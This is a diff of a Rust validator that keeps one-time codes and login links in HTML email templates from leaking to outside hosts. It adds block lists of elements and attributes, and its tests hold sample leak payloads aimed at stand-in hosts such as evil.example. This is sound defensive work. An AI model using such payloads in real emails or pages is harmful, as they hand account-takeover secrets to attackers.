@@ -1,15 +1,41 @@
 //! Checks where an application's own HTML puts the code and the link of a message. When the mail is opened, the host of
 //! each picture learns the picture's address: a code in that address lets the host take the account over.
 
-use crate::html::text_of;
+use crate::html::shown_text_of;
 use crate::html_scanner::{Found, Place, Scanner};
 
 /// Anyone who reads one of these values can take over the account.
 const SECRETS: [&str; 2] = ["%CODE%", "%LINK%"];
 
-/// Elements whose content mail programs parse in different ways.
-const AMBIGUOUS: [&str; 10] =
-    ["svg", "math", "script", "noscript", "plaintext", "xmp", "iframe", "noembed", "noframes", "template"];
+/// Elements whose content mail programs parse in different ways, and those that send what stands in them.
+const UNSUITABLE: [&str; 23] = [
+    "svg",
+    "math",
+    "script",
+    "noscript",
+    "plaintext",
+    "xmp",
+    "iframe",
+    "noembed",
+    "noframes",
+    "template",
+    "form",
+    "select",
+    "option",
+    "optgroup",
+    "datalist",
+    "button",
+    "input",
+    "textarea",
+    "output",
+    "object",
+    "embed",
+    "base",
+    "frame",
+];
+
+/// Attributes of a link that report where it leads.
+const REPORTING: [&str; 2] = ["ping", "attributionsrc"];
 
 /// Why a message would hand its secret to somebody else.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
@@ -17,7 +43,7 @@ pub enum MisplacedSecret {
     /// In an attribute that loads, sends or links to another host.
     #[error(
         "%CODE% and %LINK% may stand in text, in title and alt, and in the href of a link that is %LINK% alone or begins \
-         with {own} or with your app's own scheme; not in {attribute}"
+         with {own} or with your app's own scheme (a reversed domain name, such as com.example.shop:); not in {attribute}"
     )]
     Attribute {
         /// The server's own address.
@@ -39,11 +65,15 @@ pub enum MisplacedSecret {
         "a message with %CODE% or %LINK% must hold no <link>, and no url(), @import, @font-face or \\ in <style>"
     )]
     LoadingStyle,
-    /// Next to an element that mail programs read in different ways.
+    /// Next to an element that mail programs read in different ways, or that sends what stands in it.
     #[error(
-        "a message with %CODE% or %LINK% must not hold <{0}>, which mail programs read in different ways"
+        "a message with %CODE% or %LINK% must not hold <{0}>, which mail programs read in different ways or which may send \
+         them elsewhere"
     )]
-    Ambiguous(&'static str),
+    Unsuitable(&'static str),
+    /// Next to an attribute that tells another host where a link leads.
+    #[error("a message with %CODE% or %LINK% must not hold the attribute {0}, which reports links")]
+    Reporting(&'static str),
 }
 
 /// Checks that the code and the link of a message stay between it and its reader: they stand in text, in attributes that
@@ -57,7 +87,7 @@ pub fn check_secrets(html: &str, own: &str) -> Result<(), MisplacedSecret> {
         return Ok(());
     }
     check_markup(html, own)?;
-    check_text(&text_of(html), own)
+    check_text(&shown_text_of(html), own)
 }
 
 /// An attribute's value in which a secret stands.
@@ -91,9 +121,12 @@ fn check_markup(html: &str, own: &str) -> Result<(), MisplacedSecret> {
                 if let Some(held) = held.take() {
                     result = result.clone().and_then(|()| check_value(&held, &whole, own));
                 }
-                let ambiguous = AMBIGUOUS.into_iter().find(|name| *name == scanner.tag());
-                if let (Found::Tag, Some(name)) = (found, ambiguous) {
-                    result = Err(MisplacedSecret::Ambiguous(name));
+                let unsuitable = UNSUITABLE.into_iter().find(|name| *name == scanner.tag());
+                if let (Found::Tag, Some(name)) = (found, unsuitable) {
+                    result = Err(MisplacedSecret::Unsuitable(name));
+                }
+                if let Some(name) = REPORTING.into_iter().find(|name| *name == scanner.attribute()) {
+                    result = Err(MisplacedSecret::Reporting(name));
                 }
                 match (found, scanner.tag()) {
                     (Found::Tag, "link") => result = Err(MisplacedSecret::LoadingStyle),
@@ -143,84 +176,6 @@ fn begins_with_own(address: &str, own: &str) -> bool {
     !own.is_empty() && address.strip_prefix(own).is_some_and(|rest| rest.starts_with(['/', '?', '#']))
 }
 
-/// Schemes that a system or a widespread program handles: they load what follows, or send it to somebody.
-const OF_OTHERS: [&str; 74] = [
-    "about",
-    "acap",
-    "afp",
-    "aim",
-    "android-app",
-    "blob",
-    "callto",
-    "cap",
-    "cid",
-    "data",
-    "dav",
-    "davs",
-    "dict",
-    "discord",
-    "dns",
-    "facetime",
-    "fax",
-    "feed",
-    "feeds",
-    "file",
-    "finger",
-    "ftp",
-    "ftps",
-    "git",
-    "gopher",
-    "im",
-    "imap",
-    "intent",
-    "irc",
-    "ircs",
-    "itms",
-    "itpc",
-    "javascript",
-    "jabber",
-    "ldap",
-    "ldaps",
-    "line",
-    "magnet",
-    "mailto",
-    "market",
-    "mid",
-    "mms",
-    "modem",
-    "msteams",
-    "news",
-    "nfs",
-    "nntp",
-    "pcast",
-    "pres",
-    "rdp",
-    "rtmp",
-    "rtsp",
-    "search-ms",
-    "sftp",
-    "sgnl",
-    "sip",
-    "sips",
-    "skype",
-    "slack",
-    "smb",
-    "sms",
-    "smsto",
-    "snews",
-    "ssh",
-    "steam",
-    "svn",
-    "tel",
-    "telnet",
-    "tg",
-    "vnc",
-    "webcal",
-    "webcals",
-    "weixin",
-    "whatsapp",
-];
-
 /// Parts of the names of schemes that open browsers, or another address.
 const OPENING: [&str; 13] = [
     "http",
@@ -238,26 +193,25 @@ const OPENING: [&str; 13] = [
     "messenger",
 ];
 
-/// Whether an address opens an app on the reader's device. Its scheme (RFC 3986 section 3.1) is a reversed domain name
-/// (RFC 8252 section 7.1), or a word that no widespread program uses. After a single word, nothing may follow that could be
-/// a host, an address or another scheme.
+/// Whether an address opens an app on the reader's device: its scheme (RFC 3986 section 3.1) is a reversed domain name, as
+/// RFC 8252 section 7.1 demands of apps' own schemes. Single words are not taken: any program may answer to one, and some
+/// send what follows to somebody.
 fn has_apps_scheme(address: &str) -> bool {
-    let Some((scheme, rest)) = address.split_once(':') else { return false };
+    let Some((scheme, _)) = address.split_once(':') else { return false };
     let scheme = scheme.to_ascii_lowercase();
-    let is_apps = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
-        && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
-        && !OF_OTHERS.contains(&scheme.as_str())
+    let parts: Vec<&str> = scheme.split('.').collect();
+    let is_part =
+        |part: &&str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
+    scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+        && parts.len() > 1
+        && parts.iter().all(is_part)
         && !OPENING.iter().any(|part| scheme.contains(part))
-        && scheme != "ws";
-    let rest = SECRETS.iter().fold(rest.replace("&amp;", "&"), |rest, secret| rest.replace(secret, ""));
-    let leads_elsewhere =
-        |c: char| !c.is_ascii() || matches!(c, '.' | '@' | ':' | ';' | '\\' | '%') || c.is_whitespace();
-    is_apps && (scheme.contains('.') || !(rest.contains(leads_elsewhere) || rest.contains("&#")))
 }
 
 /// Mail programs make a link of whatever looks like an address, and some load it for a preview.
 fn check_text(text: &str, own: &str) -> Result<(), MisplacedSecret> {
-    for word in text.split_whitespace() {
+    // U+0085 is no blank for programs that look for addresses.
+    for word in text.split(|c: char| c.is_whitespace() && c != '\u{85}') {
         let secrets = SECRETS.iter().filter_map(|secret| Some((word.find(secret)?, secret.len())));
         for (at, length) in secrets {
             let before = word.get(..at).unwrap_or_default();
@@ -280,8 +234,7 @@ fn joins_before(before: &str, own: &str) -> bool {
     if begins_with_own(before, own) {
         return false;
     }
-    let is_host = before.contains(DOTS) || before.contains(['@', '\\']);
-    is_host || (before.contains("//") && !has_apps_scheme(before))
+    before.contains(DOTS) || before.contains(['@', '\\']) || before.contains("//")
 }
 
 fn joins_after(after: &str) -> bool {
@@ -308,9 +261,9 @@ mod tests {
             "<A HREF=' %LINK% '>Here</A>",
             "<a href=%LINK%>Here</a>",
             "<a href=\"https://auth.example.com/go?code=%CODE%\" title=\"%CODE%\">Here</a>",
-            "<a href=\"shop://reset/%CODE%\">Open the app</a>",
+            "<a href=\"com.example.shop://reset/%CODE%\">Open the app</a>",
             "<a href=\"com.example.shop:/reset?code=%CODE%\">Open the app</a>",
-            "<a href=\"shop://reset?code=%CODE%&amp;from=mail\">Open the app</a>",
+            "<a href=\"com.example.shop://reset?code=%CODE%&amp;from=mail\">Open the app</a>",
             "<style>p { color: red } a[href] { color: blue }</style><p>%CODE%</p>",
             "<p style=\"background: url(https://cdn.example/logo.png)\">%CODE%</p>",
             "<style>p { background: url(https://cdn.example/logo.png) }</style><p>no secret</p>",
@@ -319,7 +272,8 @@ mod tests {
             "<img src=\"https://cdn.example/%APP_NAME%.png\"><p>%CODE%</p>",
             "<table><tr><td>www.shop.example</td><td>%CODE%</td></tr></table>",
             "<p>code:%CODE% (valid for 5 min.)&#160;%CODE%</p>",
-            "<p>Type shop://reset?code=%CODE% or https://auth.example.com/x/%CODE%</p>",
+            "<p>www.shop.example:&nbsp;%CODE%&#10;www.shop.example</p>",
+            "<p>Type https://auth.example.com/x/%CODE%</p>",
             "<!--[if mso]><p>Outlook</p><![endif]--><p>%CODE%</p>",
             "<svg><circle r=\"1\"/></svg>",
             "<p>no secret at all</p>",
@@ -359,6 +313,18 @@ mod tests {
             "<a href=\"unheard-of:eve@evil?%CODE%\">x</a>",
             "<a href=\"unheard-of://%APP_NAME%/%CODE%\">x</a>",
             "<a href=\"sip:%CODE%@evil.example\">x</a>",
+            "<a href=\"shop://reset?code=%CODE%\">x</a>",
+            "<a href=\"viber://forward?text=%CODE%\">x</a>",
+            "<a href=\"matrix:u/eve/%CODE%\">x</a>",
+            "<a href=\".x:%CODE%\">x</a>",
+            "<a href=\"a..b:%CODE%\">x</a>",
+            "<a href=\"com.google.chrome:%CODE%\">x</a>",
+            "<a href=\"%LINK%\" ping=\"https://evil.example/x\">x</a>",
+            "<a ping=https://evil.example/x href=\"https://auth.example.com/x?c=%CODE%\">x</a>",
+            "<a href=\"%LINK%\" attributionsrc=https://evil.example/>x</a>",
+            "<form action=https://evil.example><select name=c><option>%CODE%</select></form>",
+            "<select form=f><option>%CODE%</option></select>",
+            "<p>%CODE%</p><form action=https://evil.example><button>x</button></form>",
             "<a href=\"whatsapp://send?phone=1&text=%CODE%\">x</a>",
             "<a href=\"steam://openurl/https://evil/%CODE%\">x</a>",
             "<a href=\"mailto:eve@evil.example?body=%CODE%\">x</a>",
@@ -430,8 +396,20 @@ mod tests {
             "%CODE%@evil.example",
             "eve@evil.example?%CODE%",
             "https:&#47;&#x2f;evil/%CODE%",
+            "https://evil.example/&#133;%CODE%",
+            "https://evil.example/\u{85}%CODE%",
+            "https://evil.example/&#128;%CODE%",
+            "https://evil.example/&#38;nbsp;%CODE%",
+            "https://evil.example/&amp;nbsp;%CODE%",
+            "https://evil.example/&#0;%CODE%",
+            "https://evil.example/&#x7f;%CODE%",
+            "https://evil.example/&ThinSpace;%CODE%",
+            "https&colon;&sol;&sol;evil/%CODE%",
+            "evil&periodexample/&nbspx.evil.example/%CODE%",
             "evil&period;example/%CODE%",
             "shop://evil.example/%CODE%",
+            "shop://x/%CODE%",
+            "com.example.shop://reset?code=%CODE%",
             "(https://evil.example/?u=%LINK%)",
             "x.example/<a href=\"%LINK%\">y</a>",
             "%CODE% evil.example/%CODE%",
